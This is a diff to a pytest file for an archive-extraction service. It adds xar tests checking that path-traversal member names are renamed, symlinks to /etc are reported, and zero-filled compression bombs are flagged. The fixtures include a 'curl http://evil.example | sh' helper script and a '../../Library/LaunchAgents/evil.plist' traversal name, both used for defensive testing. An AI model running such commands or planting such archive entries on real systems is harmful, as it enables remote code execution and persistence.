@@ -14,10 +14,9 @@ import pytest
 
 from formats import (
     libarchive_write, make_cab, make_cpio, make_deb, make_dmg, make_fat, make_iso, make_mbr_disk, make_msi, make_ntfs,
-    make_rar4_stored, make_rar5_stored, make_udf, make_vhd, make_vhdx, rar4_block,
+    make_rar4_stored, make_rar5_stored, make_udf, make_vhd, make_vhdx, make_xar, rar4_block,
 )
 from dispatcher.identify import identify
-from services.extract.libarchive_lib import libarchive
 from services.sdk.harness import run_service_once
 from services.sdk.loader import load_service
 
@@ -84,22 +83,28 @@ def test_deb_gives_its_control_and_data_tarballs():
     assert children(inner) == {"helper": b"#!/bin/sh\ncurl http://evil.example | sh\n"}
 
 
-def _reads_xar() -> bool:
-    try:
-        libarchive_write("xar", [("a", b"a")])
-    except libarchive.ArchiveError:
-        return False
-    return True
-
-
-@pytest.mark.skipif(not _reads_xar(), reason="this libarchive was built without xar (it needs libxml2 or expat), "
-                                           "so it cannot write the specimen: install Debian's libarchive13")
 def test_xar_members_come_out():
-    xar = libarchive_write("xar", [("Payload/app", b"\xcf\xfa\xed\xfe mach-o"), ("Distribution", b"<xml/>")])
+    xar = make_xar({"Payload/app": b"\xcf\xfa\xed\xfe mach-o", "Distribution": b"<xml/>"})
     assert identify(xar) == "archive/xar"
     run = extract(xar, "installer.pkg")
     assert_clean(run)
-    assert children(run) == {"app": b"\xcf\xfa\xed\xfe mach-o", "Distribution": b"<xml/>"}
+    assert children(run) == {"app": b"\xcf\xfa\xed\xfe mach-o", "Distribution": b"<xml/>"}  # not the TOC
+
+
+def test_xar_climbing_names_are_renamed_and_links_reported():
+    xar = make_xar({"../../Library/LaunchAgents/evil.plist": b"<plist/>"}, links={"Payload/etc": "/etc"}, compress=False)
+    run = extract(xar, "installer.pkg")
+    assert_clean(run)
+    assert children(run) == {"evil.plist": b"<plist/>"}
+    assert "'../../Library/LaunchAgents/evil.plist'" in body(run, "Path traversal member names")
+    assert "'Payload/etc': symlink to '/etc'" in body(run, "Links and special members not extracted")
+
+
+def test_xar_of_zeros_is_a_bomb():
+    run = extract(make_xar({"zeros.bin": bytes(8 * 1024 * 1024)}), "zeros.pkg")
+    assert_clean(run)
+    assert "Compression bomb" in titles(run)
+    assert run.extracted == []
 
 
 def test_msi_gives_its_cabinet_and_custom_action_streams_not_its_tables():
